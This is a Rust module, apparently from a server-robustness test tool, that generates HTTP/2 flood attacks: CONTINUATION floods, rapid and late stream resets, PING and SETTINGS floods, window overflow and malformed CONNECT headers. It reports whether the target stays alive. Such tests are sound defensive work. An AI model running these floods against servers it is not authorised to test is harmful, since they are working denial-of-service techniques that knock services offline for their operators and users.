//! What an authenticated client can throw at HTTP/2.

use std::collections::BTreeMap;
use std::net::SocketAddr;

use anyhow::Result;
use clap::ValueEnum;
use mesh_frames::{Heard, Kind, Wire, connect, field, frame, reset};
use serde_json::{Value, json};
use tokio::net::TcpStream;
use tokio::time::timeout;
use tokio_rustls::client::TlsStream;

use crate::peer::PATIENCE;

/// How to misuse HTTP/2.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub(crate) enum Flood {
    /// Headers without end: CONTINUATION after CONTINUATION
    Continuation,
    /// Headers without end, each frame empty
    EmptyContinuation,
    /// A request with a megabyte of headers
    HugeHeaders,
    /// Requests, each taken back in the same write
    RapidReset,
    /// Requests, taken back when the server has begun to work on them
    LateReset,
    /// PING after PING, reading none of the answers
    Ping,
    /// SETTINGS after SETTINGS
    Settings,
    /// Empty DATA frames on one stream
    EmptyData,
    /// Bytes that are no HTTP/2
    Garbage,
    /// A window update that overflows the window
    WindowOverflow,
    /// A CONNECT with a path and a scheme
    ConnectWithPath,
    /// A CONNECT without authority
    ConnectWithoutAuthority,
}

impl Flood {
    /// One step of the flood; `round` counts from 0.
    fn bytes(self, round: u32, target: &str) -> Vec<u8> {
        let first = round == 0;
        match self {
            Self::Continuation | Self::EmptyContinuation if first => {
                frame(Kind::Headers, 0, 1, &field(b":method", b"CONNECT"))
            }
            Self::Continuation => frame(Kind::Continuation, 0, 1, &field(b"a", &[b'b'; 8000])),
            Self::EmptyContinuation => frame(Kind::Continuation, 0, 1, &[]).repeat(1000),
            Self::HugeHeaders => huge_request(2 * round + 1, target),
            Self::RapidReset | Self::LateReset => (0..BATCH)
                .flat_map(|place| {
                    let stream = stream_id(round, place);
                    let taken_back = if self == Self::RapidReset { reset(stream) } else { Vec::new() };
                    [connect(stream, target), taken_back].concat()
                })
                .collect(),
            Self::Ping => frame(Kind::Ping, 0, 0, &[1; 8]).repeat(1000),
            Self::Settings => frame(Kind::Settings, 0, 0, &[0, 4, 0, 1, 0, 0]).repeat(1000),
            Self::EmptyData if first => connect(1, target),
            Self::EmptyData => frame(Kind::Data, 0, 1, &[]).repeat(1000),
            Self::Garbage => b"GET / HTTP/1.1\r\n\r\n".repeat(100),
            Self::WindowOverflow => frame(Kind::WindowUpdate, 0, 0, &[0x7f, 0xff, 0xff, 0xff]),
            Self::ConnectWithPath => {
                let block = [
                    field(b":method", b"CONNECT"),
                    field(b":scheme", b"https"),
                    field(b":authority", target.as_bytes()),
                    field(b":path", b"/"),
                ];
                frame(Kind::Headers, 4, 2 * round + 1, &block.concat())
            }
            Self::ConnectWithoutAuthority => frame(Kind::Headers, 4, 2 * round + 1, &field(b":method", b"CONNECT")),
        }
    }
}

/// Requests in one step of the resets.
const BATCH: u32 = 100;

fn stream_id(round: u32, place: u32) -> u32 {
    2 * (round * BATCH + place) + 1
}

/// A megabyte of headers that do end, in frames of 16 KiB.
fn huge_request(stream: u32, target: &str) -> Vec<u8> {
    let mut bytes = connect(stream, target);
    // Without END_HEADERS.
    bytes[4] = 0;
    let filler = field(b"a", &[b'b'; 16_000]);
    for _ in 0..64 {
        bytes.extend(frame(Kind::Continuation, 0, stream, &filler));
    }
    bytes.extend(frame(Kind::Continuation, 4, stream, &[]));
    bytes
}

/// Floods for so many rounds, or until the server has had enough.
pub(crate) async fn flood(
    stream: TlsStream<TcpStream>,
    flood: Flood,
    rounds: u32,
    target: SocketAddr,
) -> Result<Value> {
    let (mut wire, listening) = Wire::open(stream).await?;
    tokio::spawn(listening);
    let target = target.to_string();
    let mut done = 0;
    while done < rounds {
        if wire.send(&flood.bytes(done, &target)).await.is_err() {
            break;
        }
        if flood == Flood::LateReset {
            if wire.settle().await.is_err() {
                break;
            }
            let resets: Vec<u8> = (0..BATCH).flat_map(|place| reset(stream_id(done, place))).collect();
            if wire.send(&resets).await.is_err() {
                break;
            }
        }
        done += 1;
    }
    // The server's last word, or the proof that it goes on.
    let alive = matches!(timeout(PATIENCE, wire.settle()).await, Ok(Ok(())));
    if !alive {
        let _ = timeout(PATIENCE, wire.ended()).await;
    }
    let mut report = report(&wire.heard());
    report["rounds"] = json!(done);
    report["alive"] = json!(alive);
    Ok(report)
}

/// What the server has said: `resets` are counted by their codes.
fn report(heard: &Heard) -> Value {
    let mut resets = BTreeMap::<u32, u64>::new();
    for code in heard.resets.values() {
        *resets.entry(*code).or_default() += 1;
    }
    json!({ "answers": heard.answers.len(), "resets": resets, "goaway": heard.goaway, "ended": heard.ended })
}
